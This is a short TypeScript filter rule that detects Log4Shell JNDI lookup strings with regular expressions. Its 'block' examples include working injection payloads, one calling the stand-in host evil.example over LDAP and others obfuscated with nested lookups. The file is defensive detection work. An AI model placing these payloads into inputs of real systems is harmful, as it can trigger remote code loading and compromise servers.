import type { FilterRule } from '../rule.js';

export const jndi: FilterRule = {
  id: 'jndi',
  title: 'JNDI lookup (Log4Shell)',
  patterns: [/\$\{\s{0,20}(?:jndi|\$\{|lower:|upper:|env:|sys:|java:|::-)/, /jndi\s{0,20}:\s{0,20}(?:ldaps?|rmi|dns|iiop|corba|nds|https?):/],
  block: ['${jndi:ldap://evil.example/a}', '${${::-j}ndi:rmi://x/y}', '${${lower:j}ndi:dns://x}'],
  allow: ['path is ${HOME}', 'see the JNDI docs'],
};
